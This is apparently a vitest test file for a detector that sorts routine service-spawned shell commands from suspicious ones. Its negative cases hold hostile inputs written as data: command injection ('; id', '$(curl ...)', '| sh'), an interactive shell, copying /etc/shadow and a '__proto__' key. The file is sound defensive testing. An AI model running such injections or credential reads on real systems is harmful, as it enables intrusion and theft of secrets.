import { expect, test } from 'vitest';
import { isDailyCommand } from '../../src/enrich/daily-commands.ts';
import { acts, contextOf, exec } from '../support/unix-events.ts';

test.each([
  ['php-fpm', 'sh -c /usr/sbin/sendmail -t -i'],
  ['httpd', "/bin/sh -c '/usr/bin/rotatelogs /var/log/httpd/access.%Y 86400'"],
  ['httpd', '/bin/sh -c exec /usr/sbin/rotatelogs -l logs/error 10M'],
  ['postgres', 'sh -c cp pg_wal/00000001000000A900000065 /archive/00000001000000A900000065'],
  ['postgres', 'sh -c pgbackrest --stanza=main archive-push pg_wal/0001'],
  ['smbd', '/bin/sh -c lpq -Pprinter'],
])('%s may run %s', (service, line) => {
  expect(isDailyCommand(service, line)).toBe(true);
});

test.each([
  ['php-fpm', 'sh -c /usr/sbin/sendmail -t -i; id'],
  ['php-fpm', 'sh -c /usr/sbin/sendmail -t $(curl 10.0.0.9)'],
  ['php-fpm', 'sh -c /usr/sbin/sendmail | sh'],
  ['php-fpm', 'sh -c /tmp/sendmail -t'],
  ['php-fpm', 'sh -i'],
  ['postgres', 'sh -c cp /etc/shadow /tmp/x'],
  ['redis-server', 'sh -c /usr/sbin/sendmail -t -i'],
  ['__proto__', 'sh -c /usr/sbin/sendmail -t -i'],
  ['httpd', ''],
])('%s may not run %s', (service, line) => {
  expect(isDailyCommand(service, line)).toBe(false);
});

test('mail of a web application is no exploit, a command beside it is', () => {
  const under = (commandLine: string): unknown =>
    contextOf([
      acts(-60, 800, 1, '/usr/sbin/apache2'),
      exec(0, 900, 800, '/bin/sh', {
        'user.id': '33',
        'user.effective.id': '33',
        'user.name': 'www-data',
        'process.command_line': commandLine,
      }),
    ]);
  expect(under('sh -c /usr/sbin/sendmail -t -i')).toBe('none');
  expect(under('sh -c id')).toBe('service');
});
